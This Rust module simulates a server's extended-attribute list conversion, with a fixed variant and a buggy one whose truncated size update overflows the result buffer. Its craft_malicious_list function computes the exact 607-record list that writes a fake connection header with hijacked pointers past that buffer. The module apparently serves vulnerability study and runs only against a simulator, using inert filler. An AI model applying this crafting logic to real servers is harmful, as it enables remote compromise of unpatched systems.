//! The server-side Os2Fea to NtFea list conversion, modeled at the byte
//! level so the size accounting is exact.
//!
//! Two variants are implemented: the fixed one, which assigns the computed
//! remaining size to the list's 32-bit SizeOfList field, and the buggy one,
//! which updates only the low-order word of that field and therefore runs
//! the conversion loop past the result buffer. [`craft_malicious_list`]
//! builds the 607-record list whose conversion under the bug writes a fake
//! connection-header image immediately past the result buffer.

use thiserror::Error;

use crate::pool_sim::{SrvnetHeaderImage, IMAGE_P_MDL_OFFSET};

/// Declared SizeOfList of the crafted list; the smallest value whose high
/// word survives the truncated assignment.
pub const CRAFTED_SIZE_OF_LIST: u32 = 0x10000;
/// Result-list buffer size the crafted list produces.
pub const CRAFTED_S1: usize = 0x10FE8;
/// Remaining original-list size after the boundary discard.
pub const CRAFTED_S2: usize = 0xFF5D;
/// Leading empty records in the crafted list.
pub const CRAFTED_EMPTY_RECORDS: usize = 605;
/// Total records in the crafted list.
pub const CRAFTED_RECORD_COUNT: usize = 607;
/// Serialized size of the crafted list, trailing garbage included.
pub const CRAFTED_TOTAL_LEN: usize = 0x20000;

/// Conversion loop abort threshold; crafted lists stay near 607 records.
pub const LOOP_GUARD_CAP: usize = 10_000;

/// Filler used wherever record payloads or garbage need bytes. A fixed
/// repeating marker, so generated artifacts are scannable as inert.
pub const INERT_FILLER: &[u8; 8] = b"INERTPAD";

/// Fill `len` bytes with the repeating marker pattern.
pub fn inert_filler(len: usize) -> Vec<u8> {
    INERT_FILLER.iter().copied().cycle().take(len).collect()
}

// Os2 record wire shape: flags(1) name_len(1) value_len(2) name NUL value.
const OS2_RECORD_HEADER_LEN: usize = 4;
// Nt record wire shape: next_entry_offset(4) flags(1) name_len(1)
// value_len(2) name NUL value, padded to 4 bytes.
const NT_RECORD_HEADER_LEN: usize = 8;

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum FeaError {
    #[error("malformed record at offset {offset:#x}: {detail}")]
    MalformedRecord { offset: usize, detail: String },
    #[error("conversion loop exceeded {cap} iterations")]
    InfiniteLoopGuard { cap: usize },
    #[error("crafted-list size constraints are unsatisfiable: {0}")]
    SizeConstraintUnsatisfiable(String),
}

fn align4(n: usize) -> usize {
    (n + 3) & !3
}

/// One record of the legacy extended-attribute format. Declared name and
/// value lengths are derived from the byte vectors, so they always match.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Os2FeaRecord {
    pub flags: u8,
    pub name: Vec<u8>,
    pub value: Vec<u8>,
}

impl Os2FeaRecord {
    pub fn empty() -> Self {
        Os2FeaRecord {
            flags: 0,
            name: Vec::new(),
            value: Vec::new(),
        }
    }

    pub fn name_length(&self) -> u8 {
        self.name.len() as u8
    }

    pub fn value_length(&self) -> u16 {
        self.value.len() as u16
    }

    /// Serialized length: header, name, NUL terminator, value.
    pub fn wire_len(&self) -> usize {
        OS2_RECORD_HEADER_LEN + self.name.len() + 1 + self.value.len()
    }

    pub fn write_to(&self, out: &mut Vec<u8>) {
        debug_assert!(self.name.len() <= 0xFF && self.value.len() <= 0xFFFF);
        out.push(self.flags);
        out.push(self.name_length());
        out.extend_from_slice(&self.value_length().to_le_bytes());
        out.extend_from_slice(&self.name);
        out.push(0x00);
        out.extend_from_slice(&self.value);
    }

    /// Read one record starting at `offset`; errors if the header or the
    /// declared body runs past the buffer.
    fn parse_at(bytes: &[u8], offset: usize) -> Result<Os2FeaRecord, FeaError> {
        if offset + OS2_RECORD_HEADER_LEN > bytes.len() {
            return Err(FeaError::MalformedRecord {
                offset,
                detail: format!(
                    "record header needs {} bytes, {} available",
                    OS2_RECORD_HEADER_LEN,
                    bytes.len().saturating_sub(offset)
                ),
            });
        }
        let flags = bytes[offset];
        let name_len = usize::from(bytes[offset + 1]);
        let value_len = usize::from(u16::from_le_bytes([bytes[offset + 2], bytes[offset + 3]]));
        let body_start = offset + OS2_RECORD_HEADER_LEN;
        let end = body_start + name_len + 1 + value_len;
        if end > bytes.len() {
            return Err(FeaError::MalformedRecord {
                offset,
                detail: format!(
                    "record body declares {} bytes, {} available",
                    name_len + 1 + value_len,
                    bytes.len() - body_start
                ),
            });
        }
        Ok(Os2FeaRecord {
            flags,
            name: bytes[body_start..body_start + name_len].to_vec(),
            value: bytes[body_start + name_len + 1..end].to_vec(),
        })
    }
}

/// The current-format record a converted Os2 record becomes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NtFeaRecord {
    pub next_entry_offset: u32,
    pub flags: u8,
    pub name: Vec<u8>,
    pub value: Vec<u8>,
}

impl NtFeaRecord {
    pub fn from_os2(rec: &Os2FeaRecord) -> Self {
        let mut nt = NtFeaRecord {
            next_entry_offset: 0,
            flags: rec.flags,
            name: rec.name.clone(),
            value: rec.value.clone(),
        };
        nt.next_entry_offset = nt.wire_len() as u32;
        nt
    }

    /// Serialized length including the alignment padding; always a
    /// multiple of four, which keeps `next_entry_offset` aligned.
    pub fn wire_len(&self) -> usize {
        align4(NT_RECORD_HEADER_LEN + self.name.len() + 1 + self.value.len())
    }

    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_len());
        out.extend_from_slice(&self.next_entry_offset.to_le_bytes());
        out.push(self.flags);
        out.push(self.name.len() as u8);
        out.extend_from_slice(&(self.value.len() as u16).to_le_bytes());
        out.extend_from_slice(&self.name);
        out.push(0x00);
        out.extend_from_slice(&self.value);
        out.resize(self.wire_len(), 0x00);
        out
    }
}

/// A whole legacy-format list: the 32-bit SizeOfList field, the records,
/// and trailing garbage that pads the request to a chosen size.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Os2FeaList {
    pub size_of_list: u32,
    pub records: Vec<Os2FeaRecord>,
    pub trailing_garbage: usize,
}

impl Os2FeaList {
    /// Serialized length: size field + records + garbage.
    pub fn wire_len(&self) -> usize {
        4 + self.records.iter().map(Os2FeaRecord::wire_len).sum::<usize>() + self.trailing_garbage
    }

    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.wire_len());
        out.extend_from_slice(&self.size_of_list.to_le_bytes());
        for rec in &self.records {
            rec.write_to(&mut out);
        }
        out.extend_from_slice(&inert_filler(self.trailing_garbage));
        out
    }
}

/// Outcome of one conversion run, with explicit size accounting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConversionOutcome {
    /// Result-list buffer size allocated for the in-boundary records.
    pub s1: usize,
    /// Remaining original-list size after the boundary discard, the
    /// 4-byte size field included.
    pub s2: usize,
    /// SizeOfList after the (possibly truncated) assignment of `s2`.
    pub effective_size_of_list: u32,
    pub records_converted: usize,
    pub bytes_written: usize,
    /// Bytes written past the `s1` buffer, in order; empty when the
    /// conversion stayed inside the buffer.
    pub overflow_bytes: Vec<u8>,
}

impl ConversionOutcome {
    pub fn overflowed(&self) -> bool {
        !self.overflow_bytes.is_empty()
    }
}

/// Walk the serialized list and compute the discard boundary sizes:
/// `s2` is the bytes consumed by records that fit entirely inside the
/// SizeOfList boundary (plus the 4-byte size field), `s1` the converted
/// size of exactly those records.
pub fn compute_sizes(list: &Os2FeaList) -> Result<(usize, usize), FeaError> {
    let bytes = list.to_bytes();
    let (s1, s2, _) = walk_in_boundary(&bytes)?;
    Ok((s1, s2))
}

fn walk_in_boundary(bytes: &[u8]) -> Result<(usize, usize, usize), FeaError> {
    if bytes.len() < 4 {
        return Err(FeaError::MalformedRecord {
            offset: 0,
            detail: "list shorter than the 4-byte size field".into(),
        });
    }
    let boundary = u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]) as usize;
    let mut offset = 4;
    let mut s1 = 0usize;
    let mut count = 0usize;
    loop {
        // A record whose header would cross the boundary is discarded
        // along with everything after it.
        if offset + OS2_RECORD_HEADER_LEN > boundary {
            break;
        }
        let rec = Os2FeaRecord::parse_at(bytes, offset)?;
        let end = offset + rec.wire_len();
        if end > boundary {
            break;
        }
        s1 += NtFeaRecord::from_os2(&rec).wire_len();
        offset = end;
        count += 1;
    }
    Ok((s1, offset, count))
}

/// The low-word-only SizeOfList update: replaces the low 16 bits of the
/// old value with the low 16 bits of `s2`, leaving the high word alone.
pub fn truncated_assign(old_size_of_list: u32, s2: u32) -> u32 {
    (old_size_of_list & 0xFFFF_0000) | (s2 & 0x0000_FFFF)
}

/// Run the conversion loop over the serialized list.
///
/// With `bug_enabled` the SizeOfList update goes through
/// [`truncated_assign`], which inflates the loop end pointer whenever the
/// declared size was 0x10000 or more; without it the assignment is exact
/// and the loop stops at the discard boundary.
pub fn convert_list(list: &Os2FeaList, bug_enabled: bool) -> Result<ConversionOutcome, FeaError> {
    let bytes = list.to_bytes();
    let (s1, s2, _) = walk_in_boundary(&bytes)?;
    let effective_size_of_list = if bug_enabled {
        truncated_assign(list.size_of_list, s2 as u32)
    } else {
        s2 as u32
    };

    let end = effective_size_of_list as usize;
    let mut current = 4usize;
    let mut bytes_written = 0usize;
    let mut records_converted = 0usize;
    let mut overflow_bytes = Vec::new();

    while current < end {
        if records_converted >= LOOP_GUARD_CAP {
            return Err(FeaError::InfiniteLoopGuard { cap: LOOP_GUARD_CAP });
        }
        let rec = Os2FeaRecord::parse_at(&bytes, current)?;
        let nt = NtFeaRecord::from_os2(&rec).to_bytes();
        for b in nt {
            if bytes_written >= s1 {
                overflow_bytes.push(b);
            }
            bytes_written += 1;
        }
        records_converted += 1;
        current += rec.wire_len();
    }

    Ok(ConversionOutcome {
        s1,
        s2,
        effective_size_of_list,
        records_converted,
        bytes_written,
        overflow_bytes,
    })
}

/// Build the 607-record list that triggers the conversion overflow.
///
/// The shape is fixed: 605 empty records, a 606th record carrying
/// `payload_606` (padded with the inert filler), and a 607th record that
/// crosses the SizeOfList boundary and carries the fake header image. The
/// record lengths are solved so the boundary walk yields exactly
/// (`s1`, `s2`) = (0x10FE8, 0xFF5D) and the buggy loop converts exactly
/// 607 records before its inflated end pointer is reached.
pub fn craft_malicious_list(
    payload_606: &[u8],
    fake_header: &SrvnetHeaderImage,
) -> Result<Os2FeaList, FeaError> {
    let empty_len = Os2FeaRecord::empty().wire_len();

    // Record 606: sized so the in-boundary bytes total exactly s2.
    let before_606 = 4 + CRAFTED_EMPTY_RECORDS * empty_len;
    let value_606_len = CRAFTED_S2
        .checked_sub(before_606 + OS2_RECORD_HEADER_LEN + 1)
        .ok_or_else(|| {
            FeaError::SizeConstraintUnsatisfiable(
                "empty records already exceed the s2 target".into(),
            )
        })?;
    if payload_606.len() > value_606_len {
        return Err(FeaError::SizeConstraintUnsatisfiable(format!(
            "payload of {} bytes exceeds the {} bytes record 606 can carry",
            payload_606.len(),
            value_606_len
        )));
    }
    let mut value_606 = payload_606.to_vec();
    value_606.extend_from_slice(&inert_filler(value_606_len - payload_606.len()));

    // Record 607: its name length places the value at the image's first
    // overwritten field, and its total length makes the buggy loop's end
    // pointer land exactly on the record's end.
    let name_607_len = IMAGE_P_MDL_OFFSET - NT_RECORD_HEADER_LEN - 1;
    let effective = truncated_assign(CRAFTED_SIZE_OF_LIST, CRAFTED_S2 as u32) as usize;
    let value_607_len = effective
        .checked_sub(CRAFTED_S2 + OS2_RECORD_HEADER_LEN + name_607_len + 1)
        .ok_or_else(|| {
            FeaError::SizeConstraintUnsatisfiable(
                "inflated end pointer does not reach past the boundary".into(),
            )
        })?;
    if value_607_len > usize::from(u16::MAX) {
        return Err(FeaError::SizeConstraintUnsatisfiable(format!(
            "record 607 needs a {value_607_len}-byte value, over the 16-bit field"
        )));
    }
    // The converted form of record 607 starts exactly at the end of the
    // full result buffer, so the image is read from overflow offset 0.
    // Its value begins IMAGE_P_MDL_OFFSET bytes into the converted record,
    // which is where the image's first pointer field lives.
    let image = fake_header.to_bytes();
    let mut value_607 = inert_filler(value_607_len);
    let tail = &image[IMAGE_P_MDL_OFFSET..];
    value_607[..tail.len()].copy_from_slice(tail);

    let mut records = Vec::with_capacity(CRAFTED_RECORD_COUNT);
    records.resize(CRAFTED_EMPTY_RECORDS, Os2FeaRecord::empty());
    records.push(Os2FeaRecord {
        flags: 0,
        name: Vec::new(),
        value: value_606,
    });
    records.push(Os2FeaRecord {
        flags: 0,
        name: vec![0u8; name_607_len],
        value: value_607,
    });

    let list = Os2FeaList {
        size_of_list: CRAFTED_SIZE_OF_LIST,
        records,
        trailing_garbage: CRAFTED_TOTAL_LEN - effective,
    };

    let (s1, s2) = compute_sizes(&list)?;
    if (s1, s2) != (CRAFTED_S1, CRAFTED_S2) {
        return Err(FeaError::SizeConstraintUnsatisfiable(format!(
            "solver produced (s1, s2) = ({s1:#x}, {s2:#x}), wanted ({CRAFTED_S1:#x}, {CRAFTED_S2:#x})"
        )));
    }
    Ok(list)
}

/// The crafted list with an empty payload and a fake header pointing both
/// fields at the default simulator target address.
pub fn canonical_crafted_list() -> Os2FeaList {
    craft_malicious_list(&[], &SrvnetHeaderImage::hijacking_default())
        .expect("canonical list constants are consistent")
}
